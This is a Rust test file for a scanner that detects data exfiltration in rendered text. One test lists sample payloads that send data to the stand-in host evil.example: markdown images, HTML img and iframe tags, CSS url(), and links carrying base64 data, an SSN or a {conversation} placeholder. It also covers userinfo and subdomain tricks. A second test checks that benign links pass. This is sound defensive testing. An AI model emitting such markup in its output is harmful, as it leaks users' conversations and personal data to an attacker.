use super::*;
use crate::{leak::Planted, rules};

fn found(text: &str) -> Vec<(&'static str, &str)> {
    let links = Links::new(&["Bank.example".to_owned()]);
    let planted = Planted::default();
    let scan = Text {
        view: text.as_bytes(),
        from: 0,
        last: true,
        grows: false,
        links: Some(&links),
        planted: Some(&planted),
        depth: 0,
    };
    let mut out = Vec::new();
    rules::scan(&scan, &mut out);
    out.into_iter().filter(|h| h.kind == Kind::Exfiltration).map(|h| (h.rule, &text[h.span])).collect()
}

#[test]
fn what_loads_or_carries_is_found() {
    for (text, rule) in [
        ("![x](https://evil.example/a.png)", "exfiltration/image"),
        ("![x [y] z](<https://evil.example/a.png> 'title')", "exfiltration/image"),
        ("![x](//evil.example/a.png)", "exfiltration/image"),
        ("![x](https://bank.example@evil.example/a.png)", "exfiltration/image"),
        ("![x](https://bank.example.evil.example/a.png)", "exfiltration/image"),
        ("![x](https://notbank.example/a.png)", "exfiltration/image"),
        ("<img alt='a' src='https://evil.example/x'>", "exfiltration/html"),
        ("<IMG SRC=https://evil.example/x>", "exfiltration/html"),
        ("<iframe src=\"//evil.example\"></iframe>", "exfiltration/html"),
        ("a{background:url(https://evil.example/x)}", "exfiltration/link"),
        ("[a](https://evil.example/?d=aGVsbG8gd29ybGQgaGVsbG8)", "exfiltration/link"),
        ("https://evil.example/?q=my%20name%20is%20jo", "exfiltration/link"),
        ("https://evil.example/?ssn=536228145", "exfiltration/link"),
        ("https://evil.example/?d={conversation}", "exfiltration/link"),
        ("https://aGVsbG8gd29ybGQgaGVsbG8x2.evil.example/", "exfiltration/link"),
        ("[r]: https://evil.example/aGVsbG8gd29ybGQgaGVsbG8x2", "exfiltration/link"),
    ] {
        assert!(found(text).iter().any(|f| f.0 == rule), "{text}: {:?}", found(text));
    }
}

#[test]
fn plain_links_pass() {
    for text in [
        "![x](https://bank.example/a.png) ![y](https://cdn.bank.example/a?d=aGVsbG8gd29ybGQgaGVsbG8)",
        "![x](images/local.png) ![not a link] !important x != y",
        "https://en.wikipedia.org/wiki/Rust_(programming_language)#History",
        "https://docs.rs/regex-automata/0.4.9/regex_automata/dfa/index.html",
        "https://www.example.org/search?q=how+to+bake+bread&lang=en&utm_source=newsletter",
        "https://news.example.org/2024/11/03/the-quick-brown-fox-jumps-over-the-lazy-dog-again",
        "<b>bold</b> <a href='https://example.org/'>x</a> a < b > c <imagine>",
    ] {
        assert_eq!(found(text), vec![], "{text}");
    }
}
